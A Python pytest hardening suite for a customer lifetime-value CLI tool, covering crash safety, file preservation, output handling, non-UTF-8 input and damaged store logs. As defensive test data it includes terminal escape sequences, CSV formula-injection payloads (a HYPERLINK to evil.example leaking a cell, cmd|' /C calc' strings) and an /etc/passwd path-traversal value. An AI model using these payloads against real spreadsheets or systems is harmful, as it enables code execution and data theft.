    clean = write_lines(seeded / "new.jsonl", [customer("c-new", T)])
    args = {"stats": ["stats"], "ltv": ["ltv", "3"], "ingest-clean": ["ingest", clean],
            "ingest-with-rejects": ["ingest", MESSY]}[command]
    disk = BrokenDisk(monkeypatch, seeded / "logs", err).install()
    result = clv(*args)
    monkeypatch.undo()
    assert disk.refused, "the log was never opened, so the broken disk was not simulated"
    assert result.returncode == 0, result.stderr
    assert len(warnings(result)) == 1, warnings(result)
    assert len(held_events(clv)) == (9 if command == "ingest-with-rejects" else 0)


def test_a_disk_filling_up_while_holding_rejects_loses_and_blocks_nothing(clv, seeded, monkeypatch):
    """Half of the held events' file got written when the disk filled: that run fails in one line and leaves the
    store as it was, no file of it behind; once there is room again every command works and each rejected event
    is held exactly once."""
    before = files(seeded / "data")
    real, torn = pq.write_table, []

    def filling(table, where, *args, **kwargs):
        real(table, where, *args, **kwargs)
        if "table_name=held" in str(where):
            os.truncate(where, os.path.getsize(where) // 2)
            torn.append(where)
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    with monkeypatch.context() as patch:
        patch.setattr(store_module.pq, "write_table", filling)
        result = clv("ingest", MESSY)
    assert torn, "the held events were never written, so the full disk was not simulated"
    assert result.returncode == 1 and "No space left on device" in error_line(result)
    assert files(seeded / "data") == before
    for args in (["stats"], ["ltv", "3"], ["rejects"], ["display"]):
        assert clv(*args).returncode == 0, args
    summary = figures(clv("ingest", MESSY, "--format", "json"))
    assert summary["rejected"] == 9
    held = held_events(clv)
    assert sorted(h["position"] for h in held if h.get("source") == str(MESSY)) == list(range(11, 20))
    assert clv("reprocess").returncode == 0


@pytest.mark.parametrize("command", [["stats"], ["rejects"], ["reprocess"], ["ingest", "NEW"]],
                         ids=["stats", "rejects", "reprocess", "ingest-more-rejects"])
def test_files_a_killed_commit_left_half_written_block_no_command(clv, messy, command):
    """A commit killed (or stopped by a full disk) while writing its files left half a file of held events and half
    a table file that no version references: later commands run, see the store as it was (nine held), and new
    rejects are held whole."""
    for table in ("held", "orders"):
        whole = table_files(messy, table)[0]
        torn = whole.with_name(f"part-{uuid.uuid4().hex}.zstd.parquet")
        torn.write_bytes(whole.read_bytes()[:whole.stat().st_size // 2])
    assert answer(clv("stats", "--format", "json"))["rejected_held"] == 9
    new = write_lines(messy / "new.jsonl", [{"type": "PAYMENT", "key": "p1"}, {"type": "REFUND", "key": "r1"}])
    result = clv(*[new if arg == "NEW" else arg for arg in command])
    assert result.returncode == 0, result.stderr
    if command[0] == "ingest":
        listed = held_events(clv)
        assert {h["event"]["key"] for h in listed if h.get("source") == str(new)} == {"p1", "r1"}
        assert len(listed) == 11


COMMITTER = textwrap.dedent("""
    import sys
    sys.path.insert(0, sys.argv[1])
    from clv.ingest import ingest
    from clv.store import DeltaStore
    for path in sys.argv[3:]:
        ingest(DeltaStore(sys.argv[2], wait=30), [path])
        print("committed", flush=True)
""")


def test_stats_while_another_process_commits_again_and_again(clv, seeded):
    """Readers never see half a commit: while another process commits file after file (each one new customer and
    one rejected event), stats answers every time, with the events and the held rejects of one same version."""
    paths = [write_lines(seeded / f"more-{n}.jsonl", [customer(f"c-more-{n}", T), {"type": "PAYMENT", "key": f"p{n}"}])
             for n in range(8)]
    writer = subprocess.Popen([sys.executable, "-c", COMMITTER, str(ROOT / "src"), str(seeded / "data"),
                               *map(str, paths)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert writer.stdout.readline().strip() == "committed"
        seen = []
        for _ in range(6):
            shown = answer(clv("stats", "--format", "json"))
            assert shown["store_size"] - 4 == shown["rejected_held"], shown
            seen.append(shown["rejected_held"])
        assert seen == sorted(seen)
    finally:
        _out, err = writer.communicate(timeout=60)
    assert writer.returncode == 0, err
    shown = answer(clv("stats", "--format", "json"))
    assert (shown["store_size"], shown["rejected_held"]) == (12, 8)


# --- 4. Nothing deleted that the tool did not create -----------------------------------------------------------


def _damage_log(kind: str, data: Path) -> None:
    log = data / "events" / "_delta_log"
    shutil.rmtree(log)
    if kind == "emptied":
        log.mkdir()
    elif kind == "a-file":
        log.write_bytes(b"")
    elif kind == "a-dangling-link":
        log.symlink_to(data / "nowhere")


LOG_GONE_COMMANDS = {"stats": ["stats"], "ltv": ["ltv", "3"], "display": ["display"], "ingest": ["ingest", MESSY],
                     "reprocess": ["reprocess"], "compact": ["compact", "--retain", "0"]}


@pytest.mark.parametrize("command", list(LOG_GONE_COMMANDS))
@pytest.mark.parametrize("damage", ["removed", "emptied", "a-file", "a-dangling-link"])
def test_a_store_whose_delta_log_is_gone_is_not_taken_for_empty_nor_swept(clv, seeded, damage, command):
    """Table files without a readable _delta_log are a damaged store, not an empty one: one error line, no new table
    over them, and every file stays."""
    data = seeded / "data"
    _damage_log(damage, data)
    before = files(data)
    result = clv(*LOG_GONE_COMMANDS[command])
    assert result.returncode == 1
    line = error_line(result)
    assert "no data" not in line and "no store" not in line, line
    if damage == "removed":
        assert "has table files but no Delta log" in line
    assert files(data) == before and os.path.lexists(data / "events" / "_delta_log") == (damage != "removed")


FOREIGN = {"notes.txt": b"mine", "gen-backup/customers.parquet": b"mine", "events-2017.csv": b"mine",
           ".LOCK.mine.tmp": b"mine", "copy/events/_delta_log/00000000000000000000.json": b"another store's",
           "copy/events/table_name=orders/bucket=1/part-0123abcd.zstd.parquet": b"another store's"}
# Among the table's own files (Parquet files named like the tool's: test_hardening.py, crash leftovers).
FOREIGN_IN_THE_TABLE = {"events/README.md": b"mine", "events/_delta_log/notes.txt": b"mine",
                        "events/table_name=orders/notes.txt": b"mine", "events/table_name=held/notes.txt": b"mine"}
FOREIGN_LOOKALIKES = {"gen-000001-cafebabe/orders.parquet": b"mine",
                      "events/table_name=orders/bucket=1/part-0123abcd.zstd.parquet": b"mine"}
LONG_AGO = 1_500_000_000  # 2017: older than any retention


def _plant(folder: Path, items: dict[str, bytes]) -> None:
    for name, content in items.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(content)
        os.utime(folder / name, (LONG_AGO, LONG_AGO))


def test_a_data_dir_that_is_not_a_store_yet_keeps_everything_in_it(clv, tmp_path):
    """--data-dir at an existing folder: whatever was there (even names like the tool's own) is kept byte for
    byte, whether the tool uses the folder or refuses it."""
    data = tmp_path / "data"
    _plant(data, {**FOREIGN, **FOREIGN_LOOKALIKES})
    for args in (["ingest", SAMPLE], ["ingest", SAMPLE], ["compact", "--retain", "0"], ["migrate"]):
        result = clv(*args)
        assert result.returncode in (0, 1)
    kept = files(data)
    assert all(kept.get(name) == content for name, content in {**FOREIGN, **FOREIGN_LOOKALIKES}.items()), kept.keys()


def test_a_store_in_use_keeps_files_a_person_put_beside_it(clv, seeded):
    """A backup, a copy of another store, and notes (in the table's folders too) survive every command that writes:
    ingest, reprocess, rollback, and compact with no retention."""
    data = seeded / "data"
    planted = {**FOREIGN, **FOREIGN_IN_THE_TABLE}
    _plant(data, planted)
    for args in (["ingest", MESSY], ["ingest", SAMPLE], ["reprocess"], ["rollback", "0"], ["compact", "--retain", "0"],
                 ["ingest", MESSY], ["compact", "--retain", "0"]):
        assert clv(*args).returncode == 0, args
    kept = files(data)
    assert all(kept.get(name) == content for name, content in planted.items()), kept.keys()
    assert answer(clv("stats", "--format", "json"))["store_size"] == 10


def test_a_data_dir_that_is_a_file_is_one_error_line_and_left_alone(clv, tmp_path):
    """--data-dir on a regular file is not an empty store: one error line, the file untouched."""
    blocker = tmp_path / "data"
    blocker.write_text("keep me\n")
    for args in (["ingest", SAMPLE], ["stats"]):
        assert clv(*args).returncode == 1
    assert blocker.read_text() == "keep me\n"


# --- 5. Output is written into what it names, never over it ---------------------------------------------------

OUTPUT_COMMANDS = {"ltv": ["ltv", "3", "--format", "csv"], "predict": ["predict", "--format", "csv"]}


@pytest.mark.parametrize("command", list(OUTPUT_COMMANDS))
def test_output_through_a_symlink_writes_its_target_and_keeps_the_link(clv, seeded, command):
    """--output on a symlink writes the file it points to; the link stays a link."""
    target = seeded / "reports" / "top.csv"
    target.parent.mkdir()
    target.write_text("old\n")
    link = seeded / "latest.csv"
    link.symlink_to(target)
    assert clv(*OUTPUT_COMMANDS[command], "--output", link).returncode == 0
    assert link.is_symlink() and os.readlink(link) == str(target)
    assert target.read_text().startswith("rank,customer_id")


def test_output_through_a_dangling_symlink_creates_its_target(clv, seeded):
    """A link to a file not written yet: the target is created, the link kept."""
    target = seeded / "top.csv"
    link = seeded / "latest.csv"
    link.symlink_to(target)
    assert clv("ltv", "3", "--format", "csv", "--output", link).returncode == 0
    assert link.is_symlink() and target.read_text().startswith("rank,customer_id")


@pytest.mark.parametrize("command", list(OUTPUT_COMMANDS))
def test_output_into_a_named_pipe_goes_to_its_reader(clv, seeded, command):
    """--output on a FIFO writes into it; the FIFO is not replaced by a file."""
    fifo = seeded / "pipe"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    try:
        assert clv(*OUTPUT_COMMANDS[command], "--output", fifo).returncode == 0
        received = b""
        while True:
            try:
                chunk = os.read(reader, 1 << 16)
            except BlockingIOError:
                break
            if not chunk:
                break
            received += chunk
    finally:
        os.close(reader)
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert received.startswith(b"rank,customer_id")


@pytest.mark.parametrize("args", [["ltv", "3", "--output"], ["predict", "--output"]], ids=["ltv", "predict"])
def test_output_to_a_full_device_is_one_error_line_and_keeps_the_device(clv, seeded, args):
    """--output /dev/full: ENOSPC in one error line, the device untouched."""
    result = clv(*args, "/dev/full")
    assert result.returncode == 1 and "/dev/full" in error_line(result)
    assert stat.S_ISCHR(os.lstat("/dev/full").st_mode)


@pytest.mark.parametrize("command", list(OUTPUT_COMMANDS))
def test_output_dash_is_standard_output_and_creates_no_file(clv, seeded, monkeypatch, command):
    """--output - prints to stdout and creates no file named '-'."""
    monkeypatch.chdir(seeded)
    result = clv(*OUTPUT_COMMANDS[command], "--output", "-")
    assert result.returncode == 0 and result.stdout.startswith("rank,customer_id")
    assert not (seeded / "-").exists()


@pytest.mark.parametrize("device", ["/dev/stdout", "/dev/fd/1", "/proc/self/fd/1"])
def test_output_to_the_standard_output_device_writes_through_it(clv, seeded, device):
    """--output /dev/stdout (and /dev/fd/1) writes to fd 1 and leaves the link alone."""
    was_link = os.path.islink(device)
    try:
        result = clv("ltv", "3", "--format", "csv", "--output", device)
        assert result.returncode == 0
        assert "rank,customer_id" in result.leaked
        assert os.path.islink(device) == was_link
    finally:
        if was_link and not os.path.islink(device) and device == "/dev/stdout":  # put the system's link back
            os.remove(device)
            os.symlink("/proc/self/fd/1", device)


FAILED_WRITES = {"read-only-at-open": (errno.EROFS, False), "full-mid-write": (errno.ENOSPC, True)}


@pytest.mark.parametrize(("err", "torn"), FAILED_WRITES.values(), ids=FAILED_WRITES.keys())
def test_a_failed_output_keeps_the_old_file_and_leaves_no_temporary(clv, seeded, monkeypatch, err, torn):
    """A read-only or full disk under --output: one error line, the old file, no temporary."""
    folder = seeded / "reports"
    folder.mkdir()
    (folder / "top.csv").write_text("old\n")
    disk = BrokenDisk(monkeypatch, folder, err, torn=torn).install()
    result = clv("ltv", "3", "--format", "csv", "--output", folder / "top.csv")
    monkeypatch.undo()
    assert disk.spent or not torn, "the output was never written, so the full disk was not simulated"
    assert result.returncode == 1
    assert files(folder) == {"top.csv": b"old\n"}


def test_a_failed_rename_of_the_output_keeps_the_old_file_and_leaves_no_temporary(clv, seeded, monkeypatch):
    """The final rename fails: the old file stays and the temporary is gone."""
    folder = seeded / "reports"
    folder.mkdir()
    (folder / "top.csv").write_text("old\n")
    disk = BrokenDisk(monkeypatch, folder, errno.ENOSPC)
    monkeypatch.setattr(os, "replace", disk._move(os.replace))
    monkeypatch.setattr(os, "rename", disk._move(os.rename))
    result = clv("ltv", "3", "--format", "csv", "--output", folder / "top.csv")
    monkeypatch.undo()
    assert result.returncode == 1
    assert files(folder) == {"top.csv": b"old\n"}


@pytest.mark.parametrize("target", ["an-existing-folder", "a-missing-folder", "a-300-character-name"])
def test_output_onto_what_cannot_be_a_file_is_one_error_line(clv, seeded, target):
    """A folder, a missing folder or a name too long: one error line, nothing created."""
    (seeded / "reports").mkdir()
    path = {"an-existing-folder": seeded / "reports", "a-missing-folder": seeded / "nowhere" / "top.csv",
            "a-300-character-name": seeded / ("x" * 300 + ".csv")}[target]
    before = sorted(p.name for p in seeded.iterdir())
    assert clv("ltv", "3", "--output", path).returncode == 1
    assert sorted(p.name for p in seeded.iterdir()) == before and not list((seeded / "reports").iterdir())


@contextmanager
def on_move(monkeypatch, number: int, action: Callable) -> Iterator[list]:
    """Call action(real, src, dst) instead of the number-th os.replace or os.rename of the block."""
    moves: list = []

    def wrap(real: Callable) -> Callable:
        def call(src, dst, *args, **kwargs):
            moves.append(dst)
            if len(moves) == number:
                return action(real, src, dst, *args, **kwargs)
            return real(src, dst, *args, **kwargs)
        return call

    with monkeypatch.context() as patch:
        patch.setattr(os, "replace", wrap(os.replace))
        patch.setattr(os, "rename", wrap(os.rename))
        yield moves


def _ctrl_c_after(real, src, dst, *args, **kwargs):
    real(src, dst, *args, **kwargs)
    os.kill(os.getpid(), signal.SIGINT)


def _disk_full(real, src, dst, *args, **kwargs):
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), os.fsdecode(dst))


def _export_folder(seeded: Path, force: bool) -> tuple[Path, dict[str, bytes]]:
    folder = seeded / "export"
    folder.mkdir()
    if force:
        for name in EXPORTED:
            (folder / f"{name}.csv").write_bytes(b"old\n")
    return folder, files(folder)


@pytest.mark.parametrize("number", [1, 3], ids=["after-1-file", "after-3-files"])
@pytest.mark.parametrize("force", [False, True], ids=["new-folder", "force-over-old-files"])
def test_ctrl_c_during_export_completes_it_or_leaves_the_folder_as_it_was(clv, seeded, monkeypatch, number, force):
    """Ctrl-C after some files are in place: all five files (exit 0) or the folder as before (130)."""
    folder, before = _export_folder(seeded, force)
    with on_move(monkeypatch, number, _ctrl_c_after):
        result = clv("export", folder, *(["--force"] if force else []))
    after = files(folder)
    if result.returncode == 130:
        assert after == before, sorted(after)
    else:
        assert result.returncode == 0
        assert sorted(after) == sorted(f"{name}.csv" for name in EXPORTED)
        assert all(content != b"old\n" for content in after.values())


@contextmanager
def on_fsync(monkeypatch, number: int) -> Iterator[None]:
    """The number-th os.fsync of the block fails as a disk that filled up before the data reached it."""
    calls: list = []

    def fsync(fd):
        calls.append(fd)
        if len(calls) == number:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real(fd)

    real = os.fsync
    with monkeypatch.context() as patch:
        patch.setattr(os, "fsync", fsync)
        yield


EXPORT_FAILURES = {"disk-full-at-fsync-3": lambda patch: on_fsync(patch, 3),
                   "rename-2-fails": lambda patch: on_move(patch, 2, _disk_full),
                   "rename-4-fails": lambda patch: on_move(patch, 4, _disk_full)}


@pytest.mark.parametrize("failure", EXPORT_FAILURES.values(), ids=EXPORT_FAILURES.keys())
@pytest.mark.parametrize("force", [False, True], ids=["new-folder", "force-over-old-files"])
def test_a_failing_export_leaves_the_folder_as_it_was(clv, seeded, monkeypatch, failure, force):
    """A data tool's export is a set: all five files of one snapshot, or (one error line) the folder as it was."""
    folder, before = _export_folder(seeded, force)
    with failure(monkeypatch):
        result = clv("export", folder, *(["--force"] if force else []))
    assert result.returncode == 1
    assert files(folder) == before


@pytest.mark.parametrize("target", ["a-regular-file", "/dev/full"])
def test_export_onto_a_file_or_device_is_one_error_line(clv, seeded, target):
    """export DIR where DIR is a file or /dev/full: one error line, nothing changed."""
    path = seeded / "export" if target == "a-regular-file" else Path(target)
    if target == "a-regular-file":
        path.write_text("keep me\n")
    assert clv("export", path).returncode == 1
    if target == "a-regular-file":
        assert path.read_text() == "keep me\n"
    else:
        assert stat.S_ISCHR(os.lstat(path).st_mode)


# --- 6. No raw control characters on a terminal or in the log; CSV cells are never formulas ----------------

HOSTILE_TEXTS = {"escape-sequence": "\x1b[2J\x1b[31mEVIL", "c1-csi-and-bell": "c1\x9b31mred\x07ring",
                 "cr-newline-nul-del": "over\rwrite\nsplit\x00nul\x7fdel"}


def _hostile_names(text: str) -> str:
    return text.replace("\x00", "").replace("/", "")


@pytest.fixture(scope="module", params=list(HOSTILE_TEXTS))
def hostile(request, tmp_path_factory) -> dict:
    """A store fed a folder whose names and events carry the control characters of one hostile text."""
    text = HOSTILE_TEXTS[request.param]
    base = tmp_path_factory.mktemp("hostile")
    cid = "evil" + text
    folder = base / f"in{_hostile_names(text)}"
    folder.mkdir()
    events = [customer(cid, T, last_name=text, adr_city=text, adr_state=text),
              customer("c-named", T, last_name=text),
              visit("v" + text, T, cid, tags={text: text}),
              image("i1", T, cid, camera_make=text, camera_model=text),
              order("o" + text, T, cid, "5 USD"), order("o2", "2017-02-06T12:00:00Z", "c-named", "7 USD"),
              {"type": text, "verb": "NEW", "key": "k1", "event_time": T},
              customer("c-bad-time", text.replace("\n", "")),
              order("o-bad-amount", T, "c-named", text.replace("\n", ""))]  # a newline there: see above
    path = folder / f"dump{_hostile_names(text)}.jsonl"
    write_lines(path, events)
    with path.open("a", encoding="utf-8") as out:
        out.write(f"not json {text.replace(chr(10), ' ')}\n")
    (folder / f"notes{_hostile_names(text)}.md").write_text("not events")
    result = run([*options(base), "ingest", folder])
    assert result.returncode == 0, result.stderr
    return {"text": text, "cid": cid, "base": base, "names": _hostile_names(text), "ingest": result}


def _surface(clv, hostile: dict, surface: str) -> list[str]:
    """Run one place hostile text can reach and return what a person would see."""
    opts, text, cid, base, names = (options(hostile["base"]), hostile["text"], hostile["cid"], hostile["base"],
                                    hostile["names"])
    if surface == "ingest-summary":
        return [hostile["ingest"].stdout, hostile["ingest"].stderr]
    if surface == "process-log":
        clv("customer", "ev", opts=opts)
        clv("ingest", base / f"missing{names}.json", opts=opts)
        assert_log_safe(base / "logs")
        return []
    if surface.startswith("menu-"):
        typed = {"menu-option-echo": f"{text}\n4\n", "menu-customer-prompt": f"7\n{cid}\n\n\n4\n",
                 "menu-path-prompt": f"1\n{base / ('missing' + names)}\n\n\n4\n"}[surface]
        result = clv("menu", stdin=typed, opts=opts, session=True)
        return [result.stdout, result.stderr]
    args = {"display": ["display"], "customer-record": ["customer", "c-named"], "customer-by-id": ["customer", cid],
            "unknown-customer-suggestions": ["customer", "ev"], "unknown-hostile-customer": ["customer", "no" + text],
            "ltv-table": ["ltv", "10"], "ltv-csv-on-stdout": ["ltv", "10", "--format", "csv"],
            "rejects-table": ["rejects"], "stats": ["stats"], "predict-table": ["predict"],
            "export-status-lines": ["export", base / f"out{names}", "--force"],
            "output-status-line": ["ltv", "1", "--output", base / f"top{names}.txt"],
            "missing-path-error": ["ingest", base / f"missing{names}.json"], "history-table": ["history"],
            "history-csv": ["history", "--format", "csv"]}[surface]
    result = clv(*args, opts=opts)
    if surface.startswith("history"):  # the sources of each version: the hostile folder's file names
        assert result.returncode == 0, result.stderr
    return [result.stdout, result.stderr]


SURFACES = ["ingest-summary", "display", "customer-record", "customer-by-id", "unknown-customer-suggestions",
            "unknown-hostile-customer", "ltv-table", "ltv-csv-on-stdout", "rejects-table", "stats", "predict-table",
            "export-status-lines", "output-status-line", "missing-path-error", "process-log", "menu-option-echo",
            "menu-customer-prompt", "menu-path-prompt", "history-table", "history-csv"]


@pytest.mark.parametrize("surface", SURFACES)
def test_control_characters_from_files_arguments_and_prompts_never_reach_the_terminal_raw(clv, hostile, surface):
    """ESC, BEL, C1, CR, NUL and DEL from event fields, file names, arguments and typed answers are shown
    escaped (like \\x1b), and a newline in a value never starts a new output line of its own."""
    shown = _surface(clv, hostile, surface)
    assert_safe(*shown)
    assert not any(hostile["text"] in part for part in shown)


FORMULAS = {"equals-hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"click")', "plus-cmd": "+cmd|' /C calc'!A0",
            "minus-formula": "-2+3+cmd|' /C calc'!A0", "at-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
            "tab-equals": "\t=1+1", "cr-equals": "\r=1+1"}


@pytest.fixture(scope="module", params=list(FORMULAS))
def formula_store(request, tmp_path_factory) -> tuple[Path, str]:
    formula = FORMULAS[request.param]
    base = tmp_path_factory.mktemp("formula")
    events = [customer(formula, T, last_name=formula, adr_city=formula, adr_state=formula),
              visit("v1", T, formula, tags={"t": formula}), image(formula, T, formula, camera_make=formula),
              order(formula, T, formula, "5 USD"), order("o2", "2017-02-06T12:00:00Z", formula, "7 USD")]
    assert run([*options(base), "ingest", write_lines(base / "events.jsonl", events)]).returncode == 0
    return base, formula


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("surface", ["ltv-on-stdout", "ltv-output-file", "export-files", "predict-on-stdout"])
def test_a_csv_cell_never_starts_like_a_formula(clv, formula_store, tmp_path, surface):
    """=, +, -, @, tab or CR at the start of a cell gets a ' in front, as spreadsheets expect."""
    opts = options(formula_store[0])
    if surface == "ltv-on-stdout":
        texts = [clv("ltv", "10", "--format", "csv", opts=opts).stdout]
    elif surface == "predict-on-stdout":
        texts = [clv("predict", "--format", "csv", opts=opts).stdout]
    elif surface == "ltv-output-file":
        assert clv("ltv", "10", "--format", "csv", "--output", tmp_path / "top.csv", opts=opts).returncode == 0
        texts = [(tmp_path / "top.csv").read_text(encoding="utf-8")]
    else:
        assert clv("export", tmp_path / "export", opts=opts).returncode == 0
        texts = [(tmp_path / "export" / f"{name}.csv").read_text(encoding="utf-8") for name in EXPORTED]
    cells = [cell for text in texts for cell in _csv_cells(text)]
    risky = [c for c in cells if c.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(c.lstrip("-"))]
    assert not risky, risky
    assert any(cell.startswith("'") for cell in cells), "the hostile values were not in the output at all"


# --- 7. Text that is not UTF-8 ------------------------------------------------------------------------------


def _latin1_named_file(tmp_path: Path) -> Path:
    """A folder holding the sample plus one rejected event, under a file name with the byte \\xff."""
    folder = tmp_path / "dump"
    folder.mkdir()
    events = [*json.loads(SAMPLE.read_text()), {"type": "PAYMENT", "key": "p1"}]
    name = os.fsencode(folder) + b"/caf\xe9-\xff.json"
    with open(name, "wb") as out:
        out.write(json.dumps(events).encode())
    return folder


@pytest.mark.parametrize("given", ["the-folder", "the-file-itself"])
def test_a_file_name_that_is_not_utf8_is_ingested_and_shown_escaped(clv, tmp_path, given):
    """A dumped file named with bytes \\xe9 and \\xff is ingested; every output shows the name escaped."""
    folder = _latin1_named_file(tmp_path)
    path = folder if given == "the-folder" else os.fsdecode(os.fsencode(folder) + b"/caf\xe9-\xff.json")
    result = clv("ingest", path)
    assert result.returncode == 0, result.stderr
    assert_safe(result.stdout, result.stderr)
    assert "\\xff" in result.stdout
    for args in (["stats"], ["rejects"], ["rejects", "--format", "json"], ["reprocess"]):
        shown = clv(*args)
        assert shown.returncode == 0, args
        assert_safe(shown.stdout, shown.stderr)
    assert answer(clv("stats", "--format", "json"))["store_size"] == 4
    [held] = DeltaStore(tmp_path / "data").snapshot().held  # stored as valid UTF-8, any reader can read it
    assert "\\xff" in held["source"] and orjson.loads(orjson.dumps(held)) == held
    assert_log_safe(tmp_path / "logs")


NON_UTF8_ARGUMENTS = {
    "customer-id": ["customer", "caf\udce9"], "ltv-x": ["ltv", "\udcff"], "display-table": ["display", "\udcff"],
    "rejects-contains": ["rejects", "--contains", "\udcff"], "rejects-source": ["rejects", "--source", "\udcff"],
    "predict-calibration-end": ["predict", "--calibration-end", "2017-01-0\udcff"],
    "missing-path": ["ingest", "missing-\udcff.json"], "export-folder": ["export", "EXPORT-\udcff"],
    "output-file": ["ltv", "1", "--output", "OUT-\udcff.csv"],
}


@pytest.mark.parametrize("args", NON_UTF8_ARGUMENTS.values(), ids=NON_UTF8_ARGUMENTS.keys())
def test_an_argument_that_is_not_utf8_is_answered_or_refused_in_one_line(clv, seeded, monkeypatch, args):
    """An argument holding a byte that is not UTF-8 (as Python receives it: a lone surrogate) is used as the
    name of a file or refused in one error line, shown escaped."""
    monkeypatch.chdir(seeded)
    result = clv(*args)
    assert_safe(result.stdout, result.stderr)


def test_a_customer_id_typed_with_a_non_utf8_byte_at_the_menu_keeps_the_session(clv, seeded):
    """In-process the typed byte arrives as a lone surrogate."""
    result = clv("menu", stdin="7\ncaf\udce9\n\n\n6\n4\n", session=True)
    assert result.returncode == 0 and "rejected events held" in result.stdout
    assert_safe(result.stdout, result.stderr)


def test_bytes_that_are_not_utf8_typed_at_the_menu_keep_the_session(seeded):
    """A real terminal session: a customer id and a path typed with the byte \\xff."""
    typed = b"7\ncaf\xe9\n\n\n1\n/nowhere/\xff.json\n\n\n6\n4\n"
    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONUTF8", "PYTHONIOENCODING")}
    process = subprocess.run([sys.executable, str(PROCESS), *options(seeded), "menu"], input=typed,
                             capture_output=True, cwd=ROOT, timeout=60, check=False, env={**env, "LC_ALL": "C.UTF-8"})
    try:
        out, err = process.stdout.decode("utf-8"), process.stderr.decode("utf-8")
    except UnicodeDecodeError as exc:
        pytest.fail(f"bytes that are not UTF-8 reached the terminal: {exc}")
    assert "Traceback" not in out + err
    assert process.returncode == 0 and "rejected events held" in out
    assert_safe(out, err)


NOT_UTF8_CONTENT = {
    "latin1-array": ("json", '[{"type": "CUSTOMER", "verb": "NEW", "key": "c1", "event_time": "2017-01-06T12:00:00Z",'
                             ' "last_name": "Caf\xe9"}]'.encode("latin-1"), 1),
    "latin1-line": ("jsonl", (b'{"type": "CUSTOMER", "verb": "NEW", "key": "c2", "event_time": "2017-01-06T12:00:00Z"}'
                              b'\n{"type": "CUSTOMER", "last_name": "Caf\xe9"}\n'), 1),
    "utf16-with-bom": ("json", json.dumps(BASE).encode("utf-16"), 1),
    "lone-surrogate-escape-in-an-array": ("json", b'[{"type": "CUSTOMER", "key": "\\udcff"}]', 1),
    "lone-surrogate-escape-in-a-line": ("jsonl", (b'{"type": "CUSTOMER", "verb": "NEW", "key": "c2", "event_time": '
                                                  b'"2017-01-06T12:00:00Z"}\n{"type": "CUSTOMER", "key": "\\udcff"}\n'), 0),
}


@pytest.mark.parametrize(("suffix", "content", "status"), NOT_UTF8_CONTENT.values(), ids=NOT_UTF8_CONTENT.keys())
def test_content_that_is_not_utf8_fails_that_file_only(clv, seeded, suffix, content, status):
    """Bytes that are not UTF-8 are a file error (the contract): one line, nothing of the file stored. A lone
    surrogate escape in JSON Lines spoils only its line."""
    path = seeded / f"odd.{suffix}"
    path.write_bytes(content)
    before = state(seeded)
    result = clv("ingest", path, "--format", "json")
    assert result.returncode == status
    if status:
        assert state(seeded) == before
    else:
        assert figures(result)["rejected"] == 1


# --- 8. Smaller: hand-edited or damaged store files, concurrent readers, FIFOs, huge answers -------------------

def _actions(kind: str) -> Callable[[list], list]:
    """An edit of the add actions of a log entry."""
    def edit(actions: list) -> list:
        for action in actions:
            if "add" in action:
                add = action["add"]
                if kind == "size-a-string":
                    add["size"] = "seven"
                elif kind == "path-a-number":
                    add["path"] = 5
                elif kind == "path-outside-the-table":
                    add["path"] = "../../../../../../etc/passwd"
                elif kind == "partition-values-a-list":
                    add["partitionValues"] = []
                else:
                    add["partitionValues"]["bucket"] = "seven"
        return actions
    return edit


LOG_EDITS = {
    "garbage": lambda entry: entry.write_text("{ not json"),
    "cut-mid-record": lambda entry: entry.write_bytes(entry.read_bytes()[:entry.stat().st_size // 2]),
    "emptied": lambda entry: entry.write_bytes(b""),
    "actions-an-array": lambda entry: edit_entry(entry, lambda actions: [actions]),
    "actions-null": lambda entry: edit_entry(entry, lambda actions: [None for _ in actions]),
    **{kind: lambda entry, kind=kind: edit_entry(entry, _actions(kind))
       for kind in ("size-a-string", "path-a-number", "path-outside-the-table", "partition-values-a-list",
                    "bucket-not-a-number")},
}


@pytest.mark.parametrize("edit", LOG_EDITS.values(), ids=LOG_EDITS.keys())
def test_a_damaged_or_hand_edited_log_entry_is_one_error_line_and_left_alone(clv, messy, edit):
    """The newest log entry cut short, emptied, or hand-edited with wrong types: stats, ltv and ingest say in one
    line that the store (or the file the entry names) is damaged, never answer from an older version, and leave
    every file as it is."""
    edit(last_entry(messy))
    before = files(messy / "data")
    for args in (["stats"], ["ltv", "3"], ["ingest", MESSY]):
        result = clv(*args)
        assert result.returncode == 1, (args, result.stdout[-2000:])
        line = error_line(result)  # the store, or the file its log names, is damaged
        assert str(messy / "data") in line and " is damaged (" in line, args
    assert files(messy / "data") == before


def _figures(change: Callable[[dict], object]) -> Callable[[list], list]:
    """An edit of this tool's figures (the JSON text under "clv" in the entry's commitInfo)."""
    def edit(actions: list) -> list:
        for action in actions:
            if "commitInfo" in action:
                value = change(json.loads(action["commitInfo"]["clv"]))
                action["commitInfo"]["clv"] = value if isinstance(value, str) else json.dumps(value)
        return actions
    return edit


FIGURE_EDITS = {
    "not-json": lambda m: "{ not json",
    "an-array": lambda m: [m],
    "next-seq-a-string": lambda m: {**m, "next_seq": "seven"},
    "next-seq-null": lambda m: {**m, "next_seq": None},
    "next-seq-too-large-for-an-integer": lambda m: {**m, "next_seq": 10**30},
    "rows-a-string": lambda m: {**m, "rows": "many"},
    "last-ingest-a-number": lambda m: {**m, "last_ingest": 5},
    "last-ingest-fields-numbers": lambda m: {**m, "last_ingest": {"time": 5, "sources": 7}},
}


@pytest.mark.parametrize("change", FIGURE_EDITS.values(), ids=FIGURE_EDITS.keys())
def test_hand_edited_figures_of_a_version_are_answered_or_one_damaged_line(clv, messy, change):
    """The figures the tool keeps in a version's commit (next arrival number, rows, last ingestion) edited to wrong
    types: every command answers, or says in one line that the store is damaged (never an unexpected error), and a
    refusal leaves every file as it is."""
    edit_entry(last_entry(messy), _figures(change))
